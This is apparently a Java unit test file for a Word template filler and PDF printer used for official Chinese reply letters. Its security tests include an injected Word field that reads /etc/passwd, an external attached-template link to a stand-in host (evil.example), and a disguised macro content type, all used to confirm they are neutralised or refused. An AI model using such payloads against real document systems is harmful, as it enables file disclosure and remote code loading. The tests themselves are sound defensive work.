package cn.tongxin.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cn.tongxin.document.OfficialPage.Cell;
import cn.tongxin.document.OfficialPage.Row;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;

/** Slots are filled wherever Word has put them, and what is put in is text. */
class WordTemplateTest {
    @Test
    void slots_are_filled_and_lines_become_paragraphs() {
        var page = OfficialPage.portrait().title("关于{{案由}}的答复").prose("{{正文}}").line("致：{{正文}}");
        var filled = fill(page, new Slots().text("案由", "修路").text("正文", "第一段\n第二段"));
        assertThat(filled).containsExactly("关于修路的答复", "第一段", "第二段", "致：第一段\n第二段");
    }

    @Test
    void sections_repeat_rows_and_paragraphs_and_hide_what_is_blank() {
        var page = OfficialPage.portrait()
                .line("{{#单位}}")
                .line("{{名称}}")
                .table(List.of(1, 3), List.of(Row.of(Cell.centred("{{#提案}}{{序号}}"), Cell.value("{{案由}}{{/提案}}"))))
                .line("{{/单位}}")
                .line("{{#备注}}")
                .line("备注：{{备注}}")
                .line("{{/备注}}");
        var slots = new Slots()
                .list(
                        "单位",
                        List.of(
                                new Slots().text("名称", "交通局").list("提案", List.of(proposal(1, "修路"), proposal(2, "架桥"))),
                                new Slots().text("名称", "水利局").list("提案", List.of(proposal(1, "打井")))))
                .text("备注", " ");
        assertThat(fill(page, slots)).containsExactly("交通局", "1", "修路", "2", "架桥", "水利局", "1", "打井");
    }

    @Test
    void a_slot_that_word_has_cut_into_runs_is_still_one() throws IOException {
        var cut = replaceDocument(
                OfficialPage.portrait().line("{{案由}}").word(),
                document -> document.replace(
                        "{{案由}}", "前{{</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>案</w:t></w:r><w:r><w:t>由}}后"));
        assertThat(Reading.paragraphs(WordTemplate.of(cut).fill(new Slots().text("案由", "修路"))))
                .containsExactly("前修路后");
    }

    @Test
    void what_people_write_is_text_and_nothing_else() {
        var evil =
                "</w:t></w:r><w:r><w:instrText>INCLUDETEXT \"/etc/passwd\"</w:instrText> & {{秘密}} {{#秘密}}\u0000\u0007";
        var filled = fill(
                OfficialPage.portrait().line("致：{{案由}}"),
                new Slots().text("案由", evil).text("秘密", "泄露"));
        assertThat(filled).containsExactly("致：" + evil.replace("\u0000", "").replace("\u0007", ""));
    }

    @Test
    void an_upload_is_checked_before_it_serves() throws IOException {
        var good = OfficialPage.portrait().line("{{案由}}").word();
        WordTemplate.of(good).check(Set.of("案由"));
        refused(good, "template.unknown-slot", Set.of("标题"));
        refused("no zip".getBytes(StandardCharsets.UTF_8), "template.unreadable", Set.of());
        refused(new byte[0], "template.unreadable", Set.of());
        refused(
                replace(
                        good,
                        "word/_rels/document.xml.rels",
                        rels -> rels.replace(
                                "</Relationships>",
                                "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                                        + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")),
                "template.fetches",
                Set.of("案由"));
        refused(
                replace(
                        good,
                        "[Content_Types].xml",
                        types -> types.replace(
                                        "wordprocessingml.document.main+xml", "wordprocessingml.document.main+xml")
                                .replace(
                                        "application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml",
                                        "application/vnd.ms-office.vbaProject")),
                "template.has-macro",
                Set.of("案由"));
    }

    @Test
    void the_print_holds_the_same_text_with_its_fonts_and_rare_characters() throws IOException {
        var page = OfficialPage.portrait()
                .mark("办理结果：A")
                .title("关于𬭎县㛃乡道路的答复")
                .prose("{{正文}}")
                .table(
                        List.of(1, 1),
                        List.of(Row.head(Cell.label("甲"), Cell.label("乙")), Row.of(Cell.value("一"), Cell.value("二"))));
        var word = WordTemplate.of(page.word()).fill(new Slots().text("正文", "次仁·多吉委员：“四好农村路”已建成。"));
        var pdf = new Pdfs("", Clock.systemUTC()).print(word, "答复函");

        assertThat(Reading.pdf(pdf)).contains("办理结果：A", "关于𬭎县㛃乡道路的答复", "次仁·多吉委员：“四好农村路”已建成。", "甲", "二", "— 1 —");
        try (var document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
            var box = document.getPage(0).getMediaBox();
            assertThat(box.getWidth()).isBetween(595f, 596f);
            assertThat(box.getHeight()).isBetween(841f, 842f);
            for (var name : document.getPage(0).getResources().getFontNames()) {
                assertThat(document.getPage(0).getResources().getFont(name).isEmbedded())
                        .isTrue();
            }
        }
    }

    @Test
    void a_line_of_official_prose_has_twenty_eight_characters_and_a_page_twenty_two_lines() {
        var page = OfficialPage.portrait().line("字".repeat(28 * 22 + 1));
        var text = Reading.pdf(new Pdfs("", Clock.systemUTC()).print(page.word(), "版心"));
        var lines = text.lines().filter(line -> line.startsWith("字")).toList();
        assertThat(lines.getFirst()).hasSize(28);
        assertThat(lines).hasSize(23);
        assertThat(text.indexOf("— 1 —")).isLessThan(text.lastIndexOf("字"));
    }

    private static Slots proposal(int no, String title) {
        return new Slots().text("序号", no).text("案由", title);
    }

    private static List<String> fill(OfficialPage page, Slots slots) {
        return Reading.paragraphs(WordTemplate.of(page.word()).fill(slots));
    }

    private static void refused(byte[] file, String code, Set<String> known) {
        assertThatThrownBy(() -> WordTemplate.of(file).check(known))
                .isInstanceOfSatisfying(
                        TemplateRefused.class,
                        refusal -> assertThat(refusal.code()).isEqualTo(code));
    }

    private static byte[] replaceDocument(byte[] word, java.util.function.UnaryOperator<String> change)
            throws IOException {
        return replace(word, "word/document.xml", change);
    }

    private static byte[] replace(byte[] word, String part, java.util.function.UnaryOperator<String> change)
            throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var entry : Reading.unzip(word).entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(
                        entry.getKey().equals(part)
                                ? change.apply(new String(entry.getValue(), StandardCharsets.UTF_8))
                                        .getBytes(StandardCharsets.UTF_8)
                                : entry.getValue());
            }
        }
        return bytes.toByteArray();
    }
}
